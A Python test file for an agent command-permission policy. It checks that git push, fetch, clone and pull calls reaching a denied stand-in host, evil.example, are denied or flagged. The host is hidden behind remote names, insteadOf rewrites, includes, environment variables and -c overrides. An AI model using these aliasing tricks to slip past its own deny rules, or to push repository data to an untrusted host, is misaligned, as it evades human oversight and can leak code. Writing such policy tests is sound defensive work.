"""Deny and ask rules for a host hold for the names that git settings give to it."""

from pathlib import Path

import pytest

from callwright import Allow, Ask, Deny
from callwright.policy import judge_command

CONFIG = """\
[remote "origin"]
\turl = https://evil.example/x.git
[remote "ok"]
\turl = https://good.example/x.git
[remote "both"]
\turl = https://good.example/x.git
\tpushurl = git@evil.example:x/y.git
[remote "here"]
\turl = ../other
[url "https://evil.example/"]
\tinsteadOf = short:
[url "https://good.example/mirror/"]
\tinsteadOf = https://evil.example/mirrored/
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path.resolve() / "project"
    for name in ("objects", "refs"):
        (root / ".git" / name).mkdir(parents=True)
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / ".git" / "config").write_text(CONFIG)
    (root / "sub").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return root


def _judge(project: Path, line: str, kind: str = "deny", mode: str = "bypass") -> object:
    rule = ["WebFetch(domain:evil.example)"]
    return judge_command(
        line,
        cwd=project,
        workspace=project,
        mode=mode,
        allow=["Bash(git *)"],
        ask=rule if kind == "ask" else [],
        deny=rule if kind == "deny" else [],
        network_reads="allow",
    )


@pytest.mark.parametrize(
    "line",
    [
        "git push origin main",
        "git fetch origin",
        "git -C sub fetch origin",
        "git ls-remote origin",
        "git remote show origin",
        "git push --repo=origin",
        "git fetch short:x",
        "git clone short:x",
        "git -c remote.ok.url=git@evil.example:x push ok",
        "git -c url.https://evil.example/.insteadOf=my: clone my:x",
    ],
)
def test_name_of_a_denied_host_is_denied(project: Path, line: str) -> None:
    assert isinstance(_judge(project, line), Deny)
    assert isinstance(_judge(project, line, "ask", "default"), Ask)


@pytest.mark.parametrize(
    "line",
    [
        "git push",
        "git pull",
        "cd sub && git fetch",
        "git fetch --all",
        "git remote update",
        "git submodule update",
        "git push both",
        "git fetch new",
        "git lfs pull",
        "git remote add new https://evil.example/z && git fetch new",
        "git remote set-url ok git@evil.example:z && git push ok",
        "git -c include.path=/srv/more push ok",
        "git -c includeIf.onbranch:main.path=/srv/more push ok",
        "git fetch ok --recurse-submodules",
        "git --git-dir=other fetch ok",
        "git --git-dir other fetch ok",
        "GIT_DIR=other git fetch ok",
        'cd "$PLACE" && git fetch ok',
        'git fetch "$REMOTE"',
    ],
)
def test_call_that_may_reach_a_denied_host_asks_in_every_mode(project: Path, line: str) -> None:
    for mode in ("bypass", "auto"):
        assert isinstance(_judge(project, line, mode=mode), Ask), mode


@pytest.mark.parametrize(
    "line",
    [
        "git push ok main",
        "git fetch ok",
        "git fetch here",
        "git ls-remote https://good.example/x",
        "git remote -v",
        "git remote add new https://good.example/z",
        "git commit -m https://evil.example/x",
        "git apply x.patch",
        "git am x.patch",
    ],
)
def test_other_remotes_are_not_denied(project: Path, line: str) -> None:
    assert isinstance(_judge(project, line), Allow)


def test_settings_that_are_included_or_cannot_be_read_count(project: Path, tmp_path: Path) -> None:
    config = project / ".git" / "config"
    config.write_text('[remote "ok"]\n\turl = https://good.example/x\n')
    assert isinstance(_judge(project, "git push"), Allow)
    (tmp_path / ".gitconfig").write_text('[includeIf "gitdir:~/"]\n\tpath = more\n')
    assert isinstance(_judge(project, "git push"), Allow)
    (tmp_path / "more").write_text('[url "https://evil.example/"]\n\tpushInsteadOf = https://good.example/\n')
    assert isinstance(_judge(project, "git push ok"), Ask)
    (tmp_path / "more").unlink()
    (project / ".gitmodules").write_text('[submodule "m"]\n\tpath = m\n\turl = https://evil.example/m\n')
    assert isinstance(_judge(project, "git submodule update"), Ask)
    assert isinstance(_judge(project, "git push ok"), Allow)
    (project / ".git" / "remotes").mkdir()
    (project / ".git" / "remotes" / "ok").write_text("URL: https://evil.example/x\n")
    assert isinstance(_judge(project, "git push ok"), Ask)
    (project / ".git" / "remotes" / "ok").unlink()
    config.write_text("[remote")
    assert isinstance(_judge(project, "git push ok"), Ask)


@pytest.mark.parametrize(
    ("setting", "line"),
    [
        ('[branch "main"]\n\tremote = https://evil.example/x\n', "git pull"),
        ('[branch "main"]\n\tpushRemote = git@evil.example:x\n', "git push"),
        ("[lfs]\n\turl = https://evil.example/x\n", "git lfs pull"),
    ],
)
def test_address_that_is_no_remote_counts(project: Path, setting: str, line: str) -> None:
    (project / ".git" / "config").write_text('[remote "ok"]\n\turl = https://good.example/x\n')
    assert isinstance(_judge(project, line), Allow)
    (project / ".git" / "config").write_text(setting)
    assert isinstance(_judge(project, line), Ask)


def test_settings_of_the_user_may_lie_elsewhere(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "elsewhere" / "git").mkdir(parents=True)
    settings = tmp_path / "elsewhere" / "git" / "config"
    settings.write_text('[url "https://evil.example/"]\n\tinsteadOf = https://good.example/\n')
    assert isinstance(_judge(project, "git push ok"), Allow)
    for name, value in (("XDG_CONFIG_HOME", settings.parent.parent), ("GIT_CONFIG_GLOBAL", settings)):
        with monkeypatch.context() as changed:
            changed.setenv(name, str(value))
            assert isinstance(_judge(project, "git push ok"), Deny)


def test_settings_that_are_too_large_or_too_many_may_hold_the_host(project: Path, tmp_path: Path) -> None:
    home = tmp_path / ".gitconfig"
    evil = '[url "https://evil.example/"]\n\tinsteadOf = https://good.example/\n'
    home.write_text("# padding\n" * 1_000 + evil)
    assert isinstance(_judge(project, "git push ok"), Deny)
    home.write_text("# padding\n" * 110_000 + evil)
    assert isinstance(_judge(project, "git push ok"), Ask)
    for place in range(60):
        (tmp_path / f"more{place}").write_text(f"[include]\n\tpath = more{place + 1}\n")
    (tmp_path / "more60").write_text(evil)
    home.write_text("[include]\n\tpath = more55\n")
    assert isinstance(_judge(project, "git push ok"), Deny)
    home.write_text("[include]\n\tpath = more0\n")
    assert isinstance(_judge(project, "git push ok"), Ask)
